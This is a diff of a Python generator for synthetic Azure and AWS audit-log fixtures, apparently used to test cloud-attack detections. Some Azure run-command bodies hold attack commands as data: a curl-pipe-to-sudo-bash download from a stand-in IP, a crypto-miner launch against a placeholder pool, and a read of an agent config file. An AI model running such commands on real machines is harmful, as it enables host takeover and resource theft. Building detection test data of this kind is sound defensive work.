+               mirid=f"/subscriptions/{SUB}/resourcegroups/rg-automation/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-runbook-ops",
+               ip="20.50.2.14", role="Virtual Machine Contributor", scope="sub", hour=5),
+    "atomic": dict(kind="user", upn="atomic@contoso.com", given="Atomic", surname="Tester", appid=APP_PWSH,
+                   ip="198.51.100.9", role="Contributor", scope="sub", hour=15),
+}
+AZ_POOL = ["alice", "bob", "dana", "guest", "sp", "mi"]
+
+
+def az_oid(caller: str) -> str:
+    return uid("aad-object", caller)
+
+
+def az_claims(cname: str, t: dt.datetime) -> dict:
+    c = AZ_CALLERS[cname]
+    iat = int(t.timestamp()) - 600 - num(cname, t.isoformat(), mod=1800)
+    claims = {
+        "aud": "https://management.core.windows.net/",
+        "iss": f"https://sts.windows.net/{TENANT}/",
+        "iat": str(iat),
+        "nbf": str(iat),
+        "exp": str(iat + 4380 + num(cname, "exp", mod=900)),
+    }
+    if c["kind"] == "user":
+        idp_tenant = uid("fabrikam-tenant") if c.get("guest") else TENANT
+        claims.update({
+            "http://schemas.microsoft.com/claims/authnclassreference": "1",
+            "aio": b64("aio", cname, t.date(), n=120),
+            "http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd,mfa",
+            "appid": c["appid"],
+            "appidacr": "0",
+        })
+        if c.get("guest"):
+            claims["acct"] = "1"
+            claims["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress"] = c["email"]
+            claims["http://schemas.microsoft.com/identity/claims/identityprovider"] = f"https://sts.windows.net/{idp_tenant}/"
+        claims.update({
+            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/surname": c["surname"],
+            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname": c["given"],
+            "groups": ",".join(uid("group", cname, i) for i in range(2)),
+            "idtyp": "user",
+            "ipaddr": c["ip"],
+            "name": f"{c['given']} {c['surname']}",
+            "http://schemas.microsoft.com/identity/claims/objectidentifier": az_oid(cname),
+            "puid": hx("puid", cname, n=16).upper(),
+            "rh": "1.AUgA" + b64url("rh", cname, n=48) + ".",
+            "http://schemas.microsoft.com/identity/claims/scope": "user_impersonation",
+            "sid": uid("sid", cname, t.date()),
+            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/nameidentifier": b64url("nameid", cname, n=43),
+            "http://schemas.microsoft.com/identity/claims/tenantid": TENANT,
+            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name": c["upn"],
+            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": c["upn"],
+            "uti": b64url("uti", cname, t.isoformat(), n=22),
+            "ver": "1.0",
+            "xms_idrel": "1 16" if not c.get("guest") else "5 22",
+            "xms_tcdt": "1526368012",
+        })
+    else:
+        claims.update({
+            "aio": b64("aio", cname, t.date(), n=56),
+            "appid": c["appid"],
+            "appidacr": "2" if c["kind"] == "mi" else "1",
+            "http://schemas.microsoft.com/identity/claims/identityprovider": f"https://sts.windows.net/{TENANT}/",
+            "idtyp": "app",
+            "http://schemas.microsoft.com/identity/claims/objectidentifier": az_oid(cname),
+            "rh": "1.AUgA" + b64url("rh", cname, n=48) + ".",
+            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/nameidentifier": az_oid(cname),
+            "http://schemas.microsoft.com/identity/claims/tenantid": TENANT,
+            "uti": b64url("uti", cname, t.isoformat(), n=22),
+            "ver": "1.0",
+            "xms_idrel": "7 24",
+            "xms_tcdt": "1526368012",
+        })
+        if c["kind"] == "mi":
+            claims["xms_mirid"] = c["mirid"]
+            claims["xms_az_rid"] = c["mirid"]
+    return claims
+
+
+def az_ids(rg: str, res: str) -> tuple[str, str]:
+    """(original-casing resource id, upper-case resource id as exports carry it)."""
+    orig = f"/subscriptions/{SUB}/resourceGroups/{rg}/providers/Microsoft.Compute/{res}"
+    return orig, orig.upper()
+
+
+class AzOp:
+    def __init__(self, key: str, cname: str, t: dt.datetime, op: str, rg: str, res: str, style: str):
+        self.key, self.cname, self.t, self.op, self.rg, self.res = key, cname, t, op, rg, res
+        self.denied = False  # authorization failure: no role evidence on any record
+        self.style = style  # "new": 2025 export (Informational, "0", RoleLocation...); "old": Information, ints, location
+        self.corr = uid(key, "correlationId")
+        self.orig, self.upper = az_ids(rg, res)
+        self.claims = az_claims(cname, t)
+
+    def record(self, phase: str, offset_s: float, *, body=None, status=None, response_body=None, failure=None,
+               duration: int = 0) -> dict:
+        c = AZ_CALLERS[self.cname]
+        t = self.t + dt.timedelta(seconds=offset_s, microseconds=num(self.key, phase, "us", mod=90_000))
+        rtype, sig = {
+            "Start": ("Start", "Started."),
+            "Accept": ("Accept", "Accepted." if status in (None, "Accepted") else f"Accepted.{status}"),
+            "Success": ("Success", f"Succeeded.{status or 'OK'}"),
+            "Failure": ("Failure", f"Failed.{failure[0] if failure else 'Conflict'}"),
+        }[phase]
+        auth = {"scope": self.orig, "action": self.op}
+        if not self.denied:
+            scope = f"/subscriptions/{SUB}" if c["scope"] == "sub" else f"/subscriptions/{SUB}/resourceGroups/{self.rg}"
+            auth["evidence"] = {
+                "role": c["role"],
+                "roleAssignmentScope": scope,
+                "roleAssignmentId": hx("ra", self.cname, n=32),
+                "roleDefinitionId": ROLE_DEFS[c["role"]],
+                "principalId": az_oid(self.cname).replace("-", ""),
+                "principalType": "User" if c["kind"] == "user" else "ServicePrincipal",
+            }
+        props: dict = {}
+        if phase == "Start" and body is not None:
+            props["requestbody"] = json.dumps(body, separators=(",", ":"))
+        if phase in ("Accept", "Success", "Failure"):
+            props["statusCode"] = status if phase != "Failure" else failure[0]
+            props["serviceRequestId"] = uid(self.key, phase, "serviceRequestId")
+        if response_body is not None:
+            props["responseBody"] = json.dumps(response_body, separators=(",", ":"))
+        if phase == "Failure":
+            props["statusMessage"] = json.dumps({"error": {"code": failure[1], "message": failure[2]}},
+                                                separators=(",", ":"))
+        props.update({"eventCategory": "Administrative", "entity": self.orig, "message": self.op,
+                      "hierarchy": HIERARCHY})
+        rec: dict = {}
+        if self.style == "new":
+            rec.update({"RoleLocation": "West Europe", "Stamp": "AMS", "ReleaseVersion": "6.2026.39.2+8c1f2a7.release_2026w39"})
+        rec.update({
+            "time": ts7(t),
+            "resourceId": self.upper,
+            "operationName": self.op.upper(),
+            "category": "Administrative",
+            "resultType": rtype,
+            "resultSignature": sig,
+            "durationMs": "0" if self.style == "new" else duration,
+            "callerIpAddress": c["ip"],
+            "correlationId": self.corr,
+            "identity": {"authorization": auth, "claims": self.claims},
+            "level": ("Informational" if self.style == "new" else "Information") if phase != "Failure" else "Error",
+        })
+        if self.style == "old":
+            rec["location"] = "global"
+        rec["properties"] = props
+        rec["tenantId"] = TENANT
+        return rec
+
+
+def vm_body(name, size="Standard_D4s_v5"):
+    return {"location": "westeurope", "properties": {
+        "hardwareProfile": {"vmSize": size},
+        "storageProfile": {"imageReference": {"publisher": "Canonical", "offer": "ubuntu-24_04-lts",
+                                              "sku": "server", "version": "latest"},
+                           "osDisk": {"createOption": "FromImage", "managedDisk": {"storageAccountType": "Premium_LRS"},
+                                      "deleteOption": "Delete"}},
+        "osProfile": {"computerName": name, "adminUsername": "azureops",
+                      "linuxConfiguration": {"disablePasswordAuthentication": True}},
+        "networkProfile": {"networkInterfaces": [{"id": f"/subscriptions/{SUB}/resourceGroups/rg-prod-web/providers/Microsoft.Network/networkInterfaces/{name}-nic",
+                                                  "properties": {"deleteOption": "Delete"}}]}}}
+
+
+DISK_OS = "vm-sql01_OsDisk_1_" + hx("osdisk", "sql01", n=32)
+SUB_PEER = "cccccccc-9999-8888-7777-666666666666"
+
+
+def az_spec(row_id: str):
+    """(resource group, resource path under Microsoft.Compute, request body, phases, failure)."""
+    rg_web, rg_data, rg_build, rg_batch, rg_sec = "rg-prod-web", "rg-prod-data", "rg-build", "rg-batch", "rg-security"
+    snap_src = f"/subscriptions/{SUB}/resourceGroups/{rg_data}/providers/Microsoft.Compute/disks/{DISK_OS}"
+    locked = lambda rg: ("Conflict", "ScopeLocked",  # noqa: E731
+                         f"The scope '/subscriptions/{SUB}/resourceGroups/{rg}' cannot perform delete operation because following scope(s) are locked: '/subscriptions/{SUB}/resourceGroups/{rg}'. Please remove the lock and try again.")
+
+    def conflict(code, msg):
+        return ("Conflict", code, msg)
+
+    S = {
+        "azure.compute.vm_write": (rg_web, "virtualMachines/vm-web-03", vm_body("vm-web-03"), "write_accept",
+                                   conflict("OperationNotAllowed", "Operation could not be completed as it results in exceeding approved standardDSv5Family Cores quota. Additional details - Deployment Model: Resource Manager, Location: westeurope, Current Limit: 20, Current Usage: 20, Additional Required: 4, (Minimum) New Limit Required: 24.")),
+        "azure.compute.vm_delete": (rg_web, "virtualMachines/vm-web-01", None, "lro", locked(rg_web)),
+        "azure.compute.snapshot_write": (rg_data, "snapshots/snap-sql01-os-20261004",
+                                         {"location": "westeurope", "sku": {"name": "Standard_LRS"},
+                                          "properties": {"creationData": {"createOption": "Copy", "sourceResourceId": snap_src},
+                                                         "incremental": True}}, "sync_created", "forbidden"),
+        "azure.compute.snapshot_delete": (rg_data, "snapshots/snap-sql01-data-20260915", None, "lro", locked(rg_data)),
+        "azure.compute.disk_write": (rg_data, "disks/disk-restore-sql01",
+                                     {"location": "westeurope", "sku": {"name": "Premium_LRS"},
+                                      "properties": {"creationData": {"createOption": "Copy",
+                                                                      "sourceResourceId": f"/subscriptions/{SUB}/resourceGroups/{rg_data}/providers/Microsoft.Compute/snapshots/snap-sql01-os-20261004"},
+                                                     "diskSizeGB": 128}}, "sync_created",
+                                     conflict("OperationNotAllowed", "Cannot resize disk disk-restore-sql01 while it is attached to running VM /subscriptions/aaaaaaaa-1111-2222-3333-444444444444/resourceGroups/rg-prod-data/providers/Microsoft.Compute/virtualMachines/vm-sql01. Resizing a disk of an Azure Virtual Machine requires the virtual machine to be deallocated.")),
+        "azure.compute.disk_delete": (rg_data, "disks/vm-sql01_DataDisk_0", None, "lro",
+                                      conflict("OperationNotAllowed", "Disk vm-sql01_DataDisk_0 is attached to VM /subscriptions/aaaaaaaa-1111-2222-3333-444444444444/resourceGroups/rg-prod-data/providers/Microsoft.Compute/virtualMachines/vm-sql01.")),
+        "azure.compute.vm_deallocate": (rg_web, "virtualMachines/vm-web-02", None, "lro", "forbidden"),
+        "azure.compute.vm_generalize": (rg_build, "virtualMachines/vm-golden-01", None, "sync_ok",
+                                        conflict("OperationNotAllowed", "Operation 'generalize' is not allowed on VM 'vm-golden-01' since the VM is running. Please deallocate the VM before generalizing it.")),
+        "azure.compute.vm_capture": (rg_build, "virtualMachines/vm-golden-01",
+                                     {"vhdPrefix": "golden", "destinationContainerName": "vhds", "overwriteVhds": True},
+                                     "lro", conflict("OperationNotAllowed", "Capture operation cannot be completed because the VM is not generalized.")),
+        "azure.compute.vm_extension_write": (rg_web, "virtualMachines/vm-web-02/extensions/CustomScript",
+                                             {"location": "westeurope", "properties": {
+                                                 "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
+                                                 "typeHandlerVersion": "2.1", "autoUpgradeMinorVersion": True,
+                                                 "settings": {"fileUris": ["https://stdeployartifacts01.blob.core.windows.net/scripts/bootstrap.sh"]}}},
+                                             "sync_created", "forbidden"),
+        "azure.compute.vmss_write": (rg_batch, "virtualMachineScaleSets/vmss-batch-gpu",
+                                     {"location": "westeurope", "sku": {"name": "Standard_NC24ads_A100_v4", "tier": "Standard", "capacity": 8},
+                                      "properties": {"upgradePolicy": {"mode": "Manual"}, "orchestrationMode": "Uniform",
+                                                     "virtualMachineProfile": {"storageProfile": {"imageReference": {"publisher": "microsoft-dsvm", "offer": "ubuntu-hpc", "sku": "2204", "version": "latest"}},
+                                                                               "osProfile": {"computerNamePrefix": "gpu", "adminUsername": "azureops"}}}},
+                                     "write_accept",
+                                     conflict("OperationNotAllowed", "Operation could not be completed as it results in exceeding approved StandardNCADSA100v4Family Cores quota. Additional details - Deployment Model: Resource Manager, Location: westeurope, Current Limit: 0, Current Usage: 0, Additional Required: 192, (Minimum) New Limit Required: 192.")),
+        "azure.compute.vmss_delete": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu", None, "lro", locked(rg_batch)),
+        "azure.compute.restore_point_collection_write": (rg_data, "restorePointCollections/rpc-vm-sql01",
+                                                         {"location": "westeurope", "properties": {"source": {"id": f"/subscriptions/{SUB}/resourceGroups/{rg_data}/providers/Microsoft.Compute/virtualMachines/vm-sql01"}}},
+                                                         "sync_created", conflict("OperationNotAllowed", "The source resource of restore point collection cannot be changed.")),
+        "azure.compute.disk_sas_export": (rg_data, f"disks/{DISK_OS}", {"access": "Read", "durationInSeconds": 86400}, "lro", None),
+        "azure.compute.snapshot_sas_export": (rg_data, "snapshots/snap-sql01-os-20261004",
+                                              {"access": "Read", "durationInSeconds": 3600}, "lro", "forbidden"),
+        "azure.compute.restore_point_sas_export": (rg_data, "restorePointCollections/rpc-vm-sql01/restorePoints/rp-20261012",
+                                                   None, "lro", "forbidden"),
+        "azure.compute.gallery_share": (rg_build, "galleries/gal_golden_images",
+                                        {"operationType": "Add", "groups": [{"type": "Subscriptions", "ids": [SUB_PEER]},
+                                                                            {"type": "AADTenants", "ids": [uid("fabrikam-tenant")]}]},
+                                        "lro", "forbidden"),
+        "azure.compute.gallery_image_version_write": (rg_build, "galleries/gal_golden_images/images/ubuntu-web/versions/1.4.0",
+                                                      {"location": "westeurope", "properties": {
+                                                          "publishingProfile": {"targetRegions": [{"name": "westeurope", "regionalReplicaCount": 1}], "replicaCount": 1},
+                                                          "storageProfile": {"source": {"virtualMachineId": f"/subscriptions/{SUB}/resourceGroups/{rg_build}/providers/Microsoft.Compute/virtualMachines/vm-golden-01"}}}},
+                                                      "sync_created", conflict("OperationNotAllowed", "Changing property 'galleryImageVersion.properties.storageProfile.source.id' is not allowed.")),
+        "azure.compute.image_write": (rg_build, "images/img-golden-web-20261014",
+                                      {"location": "westeurope", "properties": {"sourceVirtualMachine": {"id": f"/subscriptions/{SUB}/resourceGroups/{rg_build}/providers/Microsoft.Compute/virtualMachines/vm-golden-01"},
+                                                                                "hyperVGeneration": "V2"}},
+                                      "sync_created", conflict("OperationNotAllowed", "The source virtual machine '/subscriptions/aaaaaaaa-1111-2222-3333-444444444444/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-golden-01' must be generalized to create an image.")),
+        "azure.compute.restore_point_write": (rg_data, "restorePointCollections/rpc-vm-sql01/restorePoints/rp-20261015",
+                                              {"properties": {"excludeDisks": []}}, "sync_created",
+                                              conflict("OperationNotAllowed", "A restore point operation is already in progress for the VM vm-sql01. Retry after the operation completes.")),
+        "azure.compute.restore_point_collection_delete": (rg_data, "restorePointCollections/rpc-vm-app02", None, "lro", locked(rg_data)),
+        "azure.compute.restore_point_delete": (rg_data, "restorePointCollections/rpc-vm-sql01/restorePoints/rp-20260920", None, "lro",
+                                               conflict("OperationNotAllowed", "Restore point rp-20260920 cannot be deleted while a disk restore from it is in progress.")),
+        "azure.compute.vm_run_command": (rg_web, "virtualMachines/vm-web-01",
+                                         {"commandId": "RunShellScript", "script": ["curl -fsSL http://203.0.113.50/u.sh | sudo bash"]},
+                                         "lro", conflict("Conflict", "Run command extension execution is in progress. Please wait for completion before invoking a run command.")),
+        "azure.compute.vm_managed_run_command_write": (rg_web, "virtualMachines/vm-web-02/runCommands/rc-maintenance",
+                                                       {"location": "westeurope", "properties": {"source": {"script": "id; cat /etc/waagent.conf"},
+                                                                                                 "asyncExecution": False, "timeoutInSeconds": 3600}},
+                                                       "sync_created", "forbidden"),
+        "azure.compute.vmss_vm_run_command": (rg_batch, "virtualMachineScaleSets/vmss-batch-gpu/virtualMachines/3",
+                                              {"commandId": "RunShellScript", "script": ["nvidia-smi; nohup /tmp/xmr -o pool.example.net:443 &"]},
+                                              "lro", conflict("Conflict", "Run command extension execution is in progress. Please wait for completion before invoking a run command.")),
+        "azure.compute.vmss_extension_write": (rg_batch, "virtualMachineScaleSets/vmss-batch-gpu/extensions/CustomScript",
+                                               {"properties": {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
+                                                               "typeHandlerVersion": "2.1", "autoUpgradeMinorVersion": True,
+                                                               "settings": {"commandToExecute": "bash setup.sh"}}},
+                                               "sync_created", "forbidden"),
+        "azure.compute.vm_extension_delete": (rg_web, "virtualMachines/vm-web-01/extensions/MDE.Linux", None, "lro",
+                                              conflict("OperationNotAllowed", "Cannot modify extensions in the VM when the VM is not running.")),
+        "azure.compute.gallery_application_version_write": (rg_build, "galleries/gal_golden_images/applications/ops-agent/versions/2.0.1",
+                                                            {"location": "westeurope", "properties": {"publishingProfile": {
+                                                                "source": {"mediaLink": "https://stdeployartifacts01.blob.core.windows.net/apps/ops-agent-2.0.1.zip"},
+                                                                "manageActions": {"install": "unzip ops-agent-2.0.1.zip && ./install.sh", "remove": "./uninstall.sh"},
+                                                                "targetRegions": [{"name": "westeurope", "regionalReplicaCount": 1}]}}},
+                                                            "sync_created", "forbidden"),
+        "azure.compute.vm_reimage": (rg_web, "virtualMachines/vm-web-04", {"tempDisk": False}, "lro",
+                                     conflict("OperationNotAllowed", "Reimage is only supported for Virtual Machines with ephemeral OS disk.")),
+        "azure.compute.vmss_reimage": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu", {"instanceIds": ["0", "2"]}, "lro",
+                                       conflict("OperationNotAllowed", "Operation 'reimage' is not allowed since the Virtual Machine Scale Set is being deleted.")),
+        "azure.compute.vmss_reimage_all": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu", {"instanceIds": ["1"]}, "lro",
+                                           conflict("OperationNotAllowed", "Operation 'reimageAll' is not allowed since the Virtual Machine Scale Set is being deleted.")),
+        "azure.compute.vm_power_off": (rg_web, "virtualMachines/vm-web-02", None, "lro", "forbidden"),
+        "azure.compute.disk_encryption_set_write": (rg_sec, "diskEncryptionSets/des-prod",
+                                                    {"location": "westeurope", "identity": {"type": "SystemAssigned"},
+                                                     "properties": {"activeKey": {"keyUrl": "https://kv-prod-cmk-01.vault.azure.net/keys/des-key/5b2e9f0c1d4a4b8e9f3a7c6d2e1b0a98",
+                                                                                  "sourceVault": {"id": f"/subscriptions/{SUB}/resourceGroups/{rg_sec}/providers/Microsoft.KeyVault/vaults/kv-prod-cmk-01"}},
+                                                                    "encryptionType": "EncryptionAtRestWithCustomerKey", "rotationToLatestKeyVersionEnabled": False}},
+                                                    "sync_created", "forbidden"),
+        "azure.compute.disk_encryption_set_delete": (rg_sec, "diskEncryptionSets/des-legacy", None, "lro",
+                                                     conflict("OperationNotAllowed", "Disk Encryption Set des-legacy is in use by one or more resources and cannot be deleted.")),
+        "azure.compute.disk_access_write": (rg_data, "diskAccesses/da-export-01", {"location": "westeurope"}, "sync_created", "forbidden"),
+    }
+    return S[row_id]
+
+
+def az_success_phases(op: AzOp, phases: str, body, vm_resp=None) -> list[dict]:
+    if phases == "write_accept":
+        rb = {"name": op.res.split("/")[-1], "id": op.orig, "type": "Microsoft.Compute/" + op.res.split("/")[0],
+              "location": "westeurope",
+              "properties": {**(body.get("properties", {}) if isinstance(body, dict) else {}),
+                             "provisioningState": "Creating", "vmId": uid(op.key, "vmId")}}
+        if isinstance(body, dict) and "sku" in body:
+            rb["sku"] = body["sku"]
+        return [op.record("Start", 0, body=body),
+                op.record("Accept", 1.2, status="Created", response_body=rb, duration=1180),
+                op.record("Success", 61, status="OK", duration=59840)]
+    if phases == "lro":
+        return [op.record("Start", 0, body=body),
+                op.record("Accept", 0.6, status="Accepted", duration=540),
+                op.record("Success", 47, status="OK", duration=46510)]
+    if phases == "sync_created":
+        return [op.record("Start", 0, body=body), op.record("Success", 2.3, status="Created", duration=2264)]
+    if phases == "sync_ok":
+        return [op.record("Start", 0, body=body), op.record("Success", 1.4, status="OK", duration=1391)]
+    raise ValueError(phases)
+
+
+def az_failure(op: AzOp, body, failure) -> list[dict]:
+    if failure == "forbidden":
+        op.denied = True
+        c = AZ_CALLERS[op.cname]
+        who = c.get("upn") or c["appid"]
+        failure = ("Forbidden", "AuthorizationFailed",
+                   f"The client '{who}' with object id '{az_oid(op.cname)}' does not have authorization to perform "
+                   f"action '{op.op}' over scope '{op.orig}' or the scope is invalid. If access was recently granted, "
+                   "please refresh your credentials.")
+    return [op.record("Start", 0, body=body), op.record("Failure", 0.9, failure=failure, duration=870)]
+
+
+def azure_op_records(key: str, row_op: str, cname: str, t: dt.datetime, style: str, rg: str, res: str, body,
+                     phases: str, failure=None) -> list[dict]:
+    op = AzOp(key, cname, t, row_op, rg, res, style)
+    return az_failure(op, body, failure) if failure is not None else az_success_phases(op, phases, body)
+
+
+# ------------------------------------------------------------------------------------------------
+# generation
+# ------------------------------------------------------------------------------------------------
+
+def gen_fixtures(catalog: list[dict]) -> dict:
+    aws_rows = [r for r in catalog if r["cloud"] == "aws"]
+    az_rows = [r for r in catalog if r["cloud"] == "azure"]
+    built = {}
+
+    # ---------------- AWS ----------------
+    files = []
+    for r in aws_rows:
+        files.append((r, r["positive"], False))
+        files.append((r, r["negative"], True))
+    n = len(files)
+    for k, (row, path, is_neg) in enumerate(files):
+        row_id = row["id"]
+        pname = "root" if path in AWS_ROOT_FILES else AWS_POOL[k % len(AWS_POOL)]
+        region = REGIONS[num(path, "region", mod=len(REGIONS))]
+        t = slot_time(k, n, AWS_PRINCIPALS[pname]["hour"], path)
+        if row_id in SERVICE_EVENT_ROWS:
+            t = slot_time(k, n, 6, path)  # the copying account gets its own hour: >24 h between its events
+            actor = OWN if is_neg else EXT
+            detail = service_event(path, t, region, SERVICE_EVENT_ROWS[row_id], rid("snap", "shared-prod-db"), actor)
+            env = envelope(detail, path, service_event=True)
+        else:
+            err = negative_kind(path) if is_neg else None
+            look = is_neg and err is None
+            ctx = Ctx(path, t, pname, region)
+            env = envelope(build_aws(row_id, ctx, look, err), path)
+        write_json(path, env)
+        built[path] = env
+
+    # ---------------- Azure ----------------
+    files = []
+    for r in az_rows:
+        files.append((r, r["positive"], False))
+        files.append((r, r["negative"], True))
+    n = len(files)
+    for k, (row, path, is_neg) in enumerate(files):
+        cname = AZ_POOL[k % len(AZ_POOL)]
+        t = slot_time(k, n, AZ_CALLERS[cname]["hour"], path)
+        style = "new" if k % 3 != 1 else "old"
+        rg, res, body, phases, failure = az_spec(row["id"])
+        op_name = row["operation"]
+        if is_neg and row["id"] == "azure.compute.disk_sas_export":
+            # endGetAccess: a successful revocation of the disk SAS (not in the catalog)
+            recs = azure_op_records(path, "Microsoft.Compute/disks/endGetAccess/action", cname, t, style, rg, res,
+                                    None, "lro")
+        elif is_neg:
+            recs = azure_op_records(path, op_name, cname, t, style, rg, res, body, phases, failure)
+        else:
+            recs = azure_op_records(path, op_name, cname, t, style, rg, res, body, phases)
+        payload = {"records": recs}
+        write_json(path, payload)
+        built[path] = payload
+    return built
+
+
+def gen_variants() -> None:
+    """Real CloudTrail shape of ModifyInstanceMetadataOptions (wrapped PascalCase request)."""
+    row = "aws.ec2.imds_v1_enabled"
+    for name, look, day in (("ec2-modify-instance-metadata-options-optional-wrapped.json", False, 12),
+                            ("ec2-modify-instance-metadata-options-required-wrapped.json", True, 13)):
+        key = f"variants/aws/{name}"
+        t = dt.datetime(2026, 10, day, 7, 41, num(key, "s", mod=60), tzinfo=UTC)
+        ctx = Ctx(key, t, "bob", "us-east-1")
+        service, ev, req, resp, _ = b_imds_wrapped(ctx, row, look)
+        write_json(key, envelope(ct_record(ctx, service, ev, req, resp), key))
+
+
+def gen_scenarios() -> None:
+    # 1. Atomic: CreateSnapshot then share it with another account (same snapshot), 2026-11-02
+    key0 = "scenarios/atomic-aws-snapshot-share"
+    vol = rid("vol", "atomic-share")
+    snap = rid("snap", "atomic-share")
+    t0 = dt.datetime(2026, 11, 2, 14, 5, 11, tzinfo=UTC)
+    c1 = Ctx(key0 + "/1", t0, "atomic-tester", "us-east-1")
+    desc = "atomic-red-team T1578.001"
+    d1 = ct_record(c1, "ec2", "CreateSnapshot", {"volumeId": vol, "description": desc},
+                   ec2_ok(c1, snapshotId=snap, volumeId=vol, status="pending", startTime=c1.ms(), progress="",
+                          ownerId=OWN, description=desc, volumeSize=8, encrypted=False, storageTier="standard"))
+    c2 = Ctx(key0 + "/2", t0 + dt.timedelta(minutes=2, seconds=29), "atomic-tester", "us-east-1")
+    d2 = ct_record(c2, "ec2", "ModifySnapshotAttribute",
+                   {"snapshotId": snap, "attributeType": "CREATE_VOLUME_PERMISSION",
+                    "createVolumePermission": {"add": {"items": [{"userId": EXT}]}}}, ec2_ok(c2, _return=True))
+    write_json(f"{key0}/events.json", [envelope(d1, c1.key), envelope(d2, c2.key)])
+
+    # 2. Atomic Azure: snapshot of the OS disk then capture the VM, 2026-11-03
+    key = "scenarios/atomic-azure-snapshot-capture"
+    t = dt.datetime(2026, 11, 3, 15, 12, 4, tzinfo=UTC)
+    disk = "vm-atomic01_OsDisk_1_" + hx("atomic-os", n=32)
+    recs = azure_op_records(key + "/snapshot", "Microsoft.Compute/snapshots/write", "atomic", t, "new", "rg-atomic",
+                            "snapshots/atomic-snapshot", {"location": "eastus", "properties": {"creationData": {
+                                "createOption": "Copy",
+                                "sourceResourceId": f"/subscriptions/{SUB}/resourceGroups/rg-atomic/providers/Microsoft.Compute/disks/{disk}"}}},
+                            "sync_created")
+    recs += azure_op_records(key + "/capture", "Microsoft.Compute/virtualMachines/capture/action", "atomic",
+                             t + dt.timedelta(minutes=6, seconds=41), "new", "rg-atomic", "virtualMachines/vm-atomic01",
+                             {"vhdPrefix": "atomic", "destinationContainerName": "vhds", "overwriteVhds": True}, "lro")
+    write_json(f"{key}/events.json", {"records": recs})
+
+    # 3. Atomic: RunInstances (1) then TerminateInstances of that instance, 2026-11-04
+    key = "scenarios/atomic-aws-run-terminate"
+    t = dt.datetime(2026, 11, 4, 14, 21, 37, tzinfo=UTC)
+    c1 = Ctx(key + "/1", t, "atomic-tester", "us-east-1")
+    _, _, req, resp, _ = run_instances(c1, "atomic-run", 1, "t2.micro", "required", "atomic-red-team")
+    iid = resp["instancesSet"]["items"][0]["instanceId"]
+    d1 = ct_record(c1, "ec2", "RunInstances", req, resp)
+    c2 = Ctx(key + "/2", t + dt.timedelta(minutes=4, seconds=12), "atomic-tester", "us-east-1")
+    d2 = ct_record(c2, "ec2", "TerminateInstances", {"instancesSet": {"items": [{"instanceId": iid}]}},
+                   ec2_ok(c2, instancesSet={"items": [instance_state(iid, SHUTTING, RUNNING)]}))
+    write_json(f"{key}/events.json", [envelope(d1, c1.key), envelope(d2, c2.key)])
+
+    # 4. mixed-burst: one role, rotating session names, 3 IPs, 2 regions, 4 DeleteSnapshot + 6 TerminateInstances
+    key = "scenarios/mixed-burst"
+    AWS_PRINCIPALS["ec2-maintenance"] = dict(kind="AssumedRole", role="ec2-maintenance", path="", session="x",
+                                             ip="", ua="boto3", hour=1)
+    ips = ["203.0.113.10", "198.51.100.77", "192.0.2.201"]
+    regions = ["us-east-1", "eu-west-1"]
+    plan = ["DeleteSnapshot", "TerminateInstances", "DeleteSnapshot", "TerminateInstances", "TerminateInstances",
+            "DeleteSnapshot", "TerminateInstances", "TerminateInstances", "DeleteSnapshot", "TerminateInstances"]
+    start = dt.datetime(2026, 11, 5, 1, 8, 44, tzinfo=UTC)
+    out = []
+    for i, name in enumerate(plan):
+        t = start + dt.timedelta(minutes=11 * i + num(key, i, mod=7), seconds=num(key, i, "s", mod=50))
+        session = f"botocore-session-{1793840000 + 977 * i + num(key, i, 'sess', mod=900)}"
+        ctx = Ctx(f"{key}/{i}", t, "ec2-maintenance", regions[i % 2], session=session)
+        ctx.p = dict(ctx.p, ip=ips[i % 3])
+        if name == "DeleteSnapshot":
+            snap = rid("snap", "burst", i)
+            d = ct_record(ctx, "ec2", name, {"snapshotId": snap}, ec2_ok(ctx, _return=True))
+        else:
+            iid = rid("i", "burst", i)
+            d = ct_record(ctx, "ec2", name, {"instancesSet": {"items": [{"instanceId": iid}]}},
+                          ec2_ok(ctx, instancesSet={"items": [instance_state(iid, SHUTTING, RUNNING)]}))
+        out.append(envelope(d, ctx.key))
+    write_json(f"{key}/events.json", out)
+
+
+def raw_record(row_id: str, key: str, t: dt.datetime, principal: str, region: str = "us-east-1") -> dict:
+    ctx = Ctx(key, t, principal, region)
+    return build_aws(row_id, ctx, False, None)
+
+
+def gen_formats() -> None:
+    base = dt.datetime(2026, 11, 6, 10, 2, 0, tzinfo=UTC)
+
+    def at(minutes, seconds=0):
+        return base + dt.timedelta(minutes=minutes, seconds=seconds)
+
+    # CloudTrail S3 log file
+    s3 = [
+        raw_record("aws.ec2.create_snapshot", "formats/s3/0", at(0, 7), "alice"),
+        raw_record("aws.ec2.snapshot_shared", "formats/s3/1", at(1, 41), "alice"),
+        raw_record("aws.ec2.run_instances", "formats/s3/2", at(2, 13), "ci-deploy"),
+        raw_record("aws.ec2.terminate_instances", "formats/s3/3", at(3, 2), "bob"),
+        raw_record("aws.rds.db_snapshot_shared", "formats/s3/4", at(4, 55), "sso-admin"),
+    ]
+    s3_doc = {"Records": s3}
+    write_json("formats/cloudtrail-s3-log.json", s3_doc, indent=None)
+    raw = (json.dumps(s3_doc, ensure_ascii=False) + "\n").encode()
+    buf = io.BytesIO()
+    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz:
+        gz.write(raw)
+    write_bytes("formats/cloudtrail-s3-log.json.gz", buf.getvalue())
+
+    # JSON lines, with two out-of-scope records
+    describe_ctx = Ctx("formats/jsonl/describe", at(20, 3), "bob", "us-east-1")
+    describe = ct_record(describe_ctx, "ec2", "DescribeInstances",
+                         {"instancesSet": {}, "filterSet": {"items": [{"name": "tag:env", "valueSet": {"items": [{"value": "prod"}]}}]}},
+                         None)
